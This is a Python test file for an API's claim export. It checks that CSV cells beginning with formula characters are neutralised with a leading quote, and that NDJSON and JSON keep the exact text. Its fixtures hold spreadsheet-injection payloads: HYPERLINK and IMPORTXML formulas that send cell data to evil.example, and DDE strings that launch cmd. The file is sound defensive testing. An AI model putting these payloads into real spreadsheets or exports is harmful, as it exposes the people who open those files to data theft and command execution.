"""CSV exports are safe to open in a spreadsheet: a text cell that would run as a formula starts
with `'`; NDJSON and JSON carry the exact text."""

import csv
import io
import json

import pytest

from api.cli import main

FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
# Claim texts cannot begin with whitespace; the words after a claim (its suffix) can.
BODY = (
    "".join(f"{formula}, so it went.\n" for formula in FORMULAS.values())
    + "Tabbed\t=1+1 and carried\r=2+2 on."
)


@pytest.fixture
def formulas(client, writer):
    """Claims whose text, speaker, outlet, article and suffix begin with formula characters;
    returns the claims as JSON shows them."""
    outlet = client.post("/v1/outlets", json={"name": "@Outlet =1+1"}, headers=writer)
    article = client.post(
        "/v1/articles",
        json={
            "outlet_id": outlet.get_json()["id"],
            "url": "https://example.org/formulas",
            "headline": '=IMPORTXML(CONCAT("http://evil.example/", A2), "//a")',
            "body": BODY,
        },
        headers=writer,
    )
    assert (outlet.status_code, article.status_code) == (201, 201), article.get_json()
    claims = []
    for start, text in [*FORMULAS.items(), ("\t", "Tabbed"), ("\r", "carried")]:
        speaker = client.post(
            "/v1/speakers",
            json={"name": f"{start.strip() or '-'}Speaker {len(claims)}", "kind": "person"},
            headers=writer,
        )
        claim = client.post(
            "/v1/claims",
            json={
                "article_id": article.get_json()["id"],
                "speaker_id": speaker.get_json()["id"],
                "text": text,
                "quote_type": "direct",
            },
            headers=writer,
        )
        assert (speaker.status_code, claim.status_code) == (201, 201), claim.get_json()
        claims.append(claim.get_json())
    return claims


def csv_rows(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


def neutralised(text: str) -> str:
    return "'" + text


def test_text_cells_that_would_run_as_formulas_start_with_a_quote(client, formulas):
    rows = csv_rows(client.get("/v1/claims", headers={"Accept": "text/csv"}))
    assert [int(row["id"]) for row in rows] == [claim["id"] for claim in formulas]
    for row, claim in zip(rows, formulas, strict=True):
        for column, exact in [
            ("text", claim["text"]),
            ("prefix", claim["prefix"]),
            ("suffix", claim["suffix"]),
            ("speaker_name", claim["speaker"]["name"]),
            ("outlet_name", claim["outlet"]["name"]),
            ("article_headline", claim["article"]["headline"]),
            ("article_url", claim["article"]["url"]),
        ]:
            dangerous = exact[:1] in ("=", "+", "-", "@", "\t", "\r")
            assert row[column] == (neutralised(exact) if dangerous else exact), column
        assert row["id"] == str(claim["id"]) and row["start"] == str(claim["start"])
    by_text = {row["text"]: row for row in rows}
    for formula in FORMULAS.values():
        assert neutralised(formula) in by_text  # quotes and commas still RFC 4180-quoted
    assert by_text["Tabbed"]["suffix"].startswith("'\t=1+1")
    assert by_text["carried"]["suffix"].startswith("'\r=2+2")
    assert {row["outlet_name"] for row in rows} == {"'@Outlet =1+1"}


def test_ndjson_and_json_carry_the_exact_text(client, formulas):
    response = client.get("/v1/claims", headers={"Accept": "application/x-ndjson"})
    streamed = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert streamed == formulas
    assert client.get("/v1/claims?limit=100").get_json()["data"] == formulas
    assert [claim["text"] for claim in formulas[:4]] == list(FORMULAS.values())
    assert formulas[4]["suffix"].startswith("\t=1+1")


def test_the_export_command_writes_the_same_safe_cells(app, client, formulas, tmp_path):
    exported = tmp_path / "claims.csv"
    result = app.test_cli_runner().invoke(main, ["export", "--format", "csv", "-o", exported])
    assert result.exit_code == 0, result.output
    served = client.get("/v1/claims", headers={"Accept": "text/csv"}).get_data(as_text=True)
    assert exported.read_bytes().decode("utf-8") == served
